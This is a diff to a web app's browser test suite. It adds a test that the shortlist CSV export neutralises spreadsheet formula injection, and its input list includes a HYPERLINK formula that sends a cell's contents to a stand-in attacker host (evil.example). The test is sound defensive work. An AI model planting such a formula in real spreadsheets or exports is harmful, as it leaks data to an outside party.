@@ -136,6 +136,27 @@ def test_shortlist_survives_reload_and_exports(page, server):
     assert link == server.url + "/shortlist/?ids=nairobi-dev%2Ctokyo-designer"
 
 
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"CV\")", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
+            "＝1+1", "Quote \"and\", comma", "Line\nbreak", "Plain Name"]
+
+
+def test_shortlist_csv_neutralises_formulas(page, server):
+    # a name is whatever the profile says (or whatever sits in this browser's storage): a spreadsheet must not run it
+    page.goto(server.url + "/shortlist/")
+    items = [{"id": f"person-{i}", "name": name} for i, name in enumerate(FORMULAS)]
+    page.evaluate("items => localStorage.setItem('tp-shortlist', JSON.stringify(items))", items)
+    page.reload()
+    with page.expect_download() as download:
+        page.click("#tp-sl-csv")
+    raw = Path(download.value.path()).read_bytes().decode("utf-8")      # as written: \r kept
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    names = [r[1] for r in rows[1:]]
+    assert names == ["'" + n for n in FORMULAS[:7]] + FORMULAS[7:]
+    assert all(len(r) == 3 for r in rows) and all(cell[:1] not in "=+-@\t\r＝" for r in rows for cell in r)
+    cell = r'"(?:[^"]|"")*"'
+    assert all(re.fullmatch(f"{cell},{cell},{cell}", record, re.S) for record in raw.split("\r\n")[1:-1])
+
+
 def test_a_shared_shortlist_link_fills_an_empty_shortlist(browser, server):
     context = browser.new_context()
     pg = context.new_page()
